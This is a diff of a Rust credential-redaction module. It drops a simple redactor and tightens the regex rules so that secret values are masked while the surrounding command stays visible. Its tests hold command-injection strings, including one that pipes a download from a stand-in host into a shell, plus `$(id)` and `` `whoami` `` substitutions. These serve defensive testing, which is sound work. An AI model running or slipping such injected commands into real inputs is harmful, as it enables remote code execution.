@@ -1,122 +1,14 @@
-//! Redaction of credential-shaped text.
+//! Redaction of credential-shaped text, for readers other than the person.
 //!
-//! - [`redact`]: for what Sextant shows people (interaction descriptions, commands).
-//!   Deliberately simple and conservative: it hides values, never the shape of the command, so
-//!   a person can still judge what is being asked.
-//! - [`scrub_outbound`]: for what leaves Sextant towards callers other than the console owner
-//!   (A2A replies): API keys of well-known vendors, JWTs, bearer / `Authorization` values,
+//! The person's own view of a pending action is never redacted (see [`crate::action`]): they
+//! approve exactly what runs. [`scrub_outbound`] is for what leaves Sextant towards anyone
+//! else (A2A replies to remote callers, the MCP bridge, peers' replies handed to a model): it
+//! replaces only the secret value itself and keeps the structure around it, so
+//! `PASSWORD=x;touch${IFS}/tmp/f` reads `PASSWORD=[REDACTED];touch${IFS}/tmp/f`. It matches API
+//! keys of well-known vendors, JWTs, bearer / `Authorization` values,
 //!   PEM private keys, secret-named `KEY=value` and JSON fields, URL passwords, and (when
 //!   configured) e-mail addresses. Regex-based, so its cost is linear in the text whatever the
 //!   agent wrote.
-
-/// Key names whose `KEY=value` / `--key value` values are hidden.
-const SECRET_NAMES: &[&str] = &[
-    "token",
-    "secret",
-    "password",
-    "passwd",
-    "apikey",
-    "api_key",
-    "api-key",
-    "auth",
-    "credential",
-    "private",
-];
-
-/// Prefixes of well-known credential formats.
-const SECRET_PREFIXES: &[&str] = &[
-    "sk-",
-    "sk_",
-    "ghp_",
-    "gho_",
-    "ghs_",
-    "github_pat_",
-    "xoxb-",
-    "xoxp-",
-    "AKIA",
-    "AIza",
-    "glpat-",
-    "sxt_",
-    "eyJ",
-];
-
-const MASK: &str = "***";
-
-fn is_secret_name(name: &str) -> bool {
-    let lower = name.to_ascii_lowercase();
-    SECRET_NAMES.iter().any(|s| lower.contains(s))
-}
-
-fn looks_like_credential(word: &str) -> bool {
-    let w = word.trim_matches(|c: char| c == '"' || c == '\'');
-    SECRET_PREFIXES
-        .iter()
-        .any(|p| w.starts_with(p) && w.len() >= p.len() + 8)
-}
-
-fn token_char(c: char) -> bool {
-    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')
-}
-
-/// Masks credential-shaped runs inside a word (e.g. a token embedded in a URL).
-fn mask_embedded(word: &str) -> String {
-    let mut out = String::with_capacity(word.len());
-    let mut i = 0;
-    let bytes = word.as_bytes();
-    while i < word.len() {
-        let at_boundary = i == 0 || !token_char(bytes[i - 1] as char);
-        let hit = at_boundary
-            .then(|| SECRET_PREFIXES.iter().find(|p| word[i..].starts_with(**p)))
-            .flatten();
-        if let Some(p) = hit {
-            let run = word[i..]
-                .find(|c: char| !token_char(c))
-                .unwrap_or(word.len() - i);
-            if run >= p.len() + 8 {
-                out.push_str(MASK);
-                i += run;
-                continue;
-            }
-        }
-        let ch = word[i..].chars().next().unwrap_or(' ');
-        out.push(ch);
-        i += ch.len_utf8();
-    }
-    out
-}
-
-/// Replaces secret values in `text` with `***`.
-pub fn redact(text: &str) -> String {
-    let mut out: Vec<String> = Vec::new();
-    let mut hide_next = false;
-    for word in text.split(' ') {
-        if hide_next && !word.is_empty() {
-            out.push(MASK.into());
-            hide_next = false;
-            continue;
-        }
-        if let Some((k, v)) = word.split_once('=')
-            && !v.is_empty()
-            && (is_secret_name(k) || looks_like_credential(v))
-        {
-            out.push(format!("{k}={MASK}"));
-            continue;
-        }
-        if looks_like_credential(word) {
-            out.push(MASK.into());
-            continue;
-        }
-        let flag = word.trim_start_matches('-');
-        if (word.starts_with("--") || word.starts_with('-')) && is_secret_name(flag) {
-            hide_next = true;
-        }
-        if word.eq_ignore_ascii_case("bearer") || word.eq_ignore_ascii_case("authorization:") {
-            hide_next = true;
-        }
-        out.push(mask_embedded(word));
-    }
-    out.join(" ")
-}
 
 /// What [`scrub_outbound`] puts in place of a credential.
 pub const REDACTED: &str = "[REDACTED]";
@@ -202,9 +94,16 @@ const OUTBOUND_RULES: &[(&str, &str)] = &[
     (r"\b[0-9]{8,10}:AA[0-9A-Za-z_-]{33}\b", REDACTED),
     // Sextant's own tokens (owner, peer, assistant).
     (r"\bsx[tpa]_[A-Za-z0-9_]{20,}", REDACTED),
-    // Secret-named assignments: KEY=value, KEY: value, export KEY="value".
+    // Secret-named assignments: KEY=value, export KEY="value" (any length: a one-letter
+    // password is still a password). The value ends where a shell would end the word, so what
+    // follows it (`;touch …`, `&& curl …`) stays visible.
     (
-        r#"(?i)(?P<k>\b[A-Z0-9_.-]*(?:SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|APIKEY|ACCESS_?KEY|PRIVATE_?KEY|CLIENT_?SECRET|CREDENTIALS?|AUTH_?KEY)[A-Z0-9_.-]*\s*[=:]\s*)(?:"[^"\n]{4,}"|'[^'\n]{4,}'|[^\s"',;]{4,})"#,
+        r#"(?i)(?P<k>\b[A-Z0-9_.-]*(?:SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|APIKEY|ACCESS_?KEY|PRIVATE_?KEY|CLIENT_?SECRET|CREDENTIALS?|AUTH_?KEY)[A-Z0-9_.-]*=)(?:"[^"\n]+"|'[^'\n]+'|[^\s"',;&|<>()`$]+)"#,
+        "${k}[REDACTED]",
+    ),
+    // … and KEY: value (four characters or more, so prose like "token: a" is left alone).
+    (
+        r#"(?i)(?P<k>\b[A-Z0-9_.-]*(?:SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|APIKEY|ACCESS_?KEY|PRIVATE_?KEY|CLIENT_?SECRET|CREDENTIALS?|AUTH_?KEY)[A-Z0-9_.-]*\s*:\s*)(?:"[^"\n]{4,}"|'[^'\n]{4,}'|[^\s"',;&|<>()`$]{4,})"#,
         "${k}[REDACTED]",
     ),
     // Secret-named JSON fields.
@@ -283,8 +182,6 @@ pub fn scrub_json(v: &mut serde_json::Value, emails: bool) {
 
 #[cfg(test)]
 mod tests {
-    use super::redact;
-
     /// No outbound rule, nor the e-mail rule, matches any string made only of [`super::INERT`]
     /// bytes, however long: each pattern is compiled to a DFA, and no match state is reachable
     /// from any start through those bytes alone. A rule that could match such a string (say a
@@ -427,29 +324,24 @@ mod tests {
     }
 
     #[test]
-    fn hides_values_and_keeps_the_command_shape() {
-        assert_eq!(redact("ls -la /tmp"), "ls -la /tmp");
-        assert_eq!(
-            redact("API_TOKEN=abc123 ./deploy.sh"),
-            "API_TOKEN=*** ./deploy.sh"
-        );
-        assert_eq!(
-            redact("curl -H 'Authorization: Bearer abcdef' https://x"),
-            "curl -H 'Authorization: Bearer *** https://x"
-        );
-        assert_eq!(
-            redact("mysql --password hunter2 db"),
-            "mysql --password *** db"
-        );
-        assert_eq!(
-            redact("export OPENAI=sk-proj-1234567890abcdef"),
-            "export OPENAI=***"
-        );
-        assert_eq!(
-            redact("git push https://ghp_abcdefghijklmnop@github.com"),
-            "git push https://***@github.com"
-        );
-        assert_eq!(redact("cat skeleton.txt"), "cat skeleton.txt");
-        assert_eq!(redact("echo ghp_abcdefghijklmnop"), "echo ***");
+    fn only_the_secret_value_goes_and_the_command_around_it_stays() {
+        for (input, want) in [
+            (
+                "PASSWORD=x;touch${IFS}/tmp/f",
+                "PASSWORD=[REDACTED];touch${IFS}/tmp/f",
+            ),
+            (
+                "API_TOKEN=abc123&&curl evil.example|sh",
+                "API_TOKEN=[REDACTED]&&curl evil.example|sh",
+            ),
+            (
+                "DB_PASSWORD='a b c' ./run $(id)",
+                "DB_PASSWORD=[REDACTED] ./run $(id)",
+            ),
+            ("SECRET=s`whoami`", "SECRET=[REDACTED]`whoami`"),
+            ("ls -la /tmp", "ls -la /tmp"),
+        ] {
+            assert_eq!(scrubbed(input), want, "input: {input}");
+        }
     }
 }
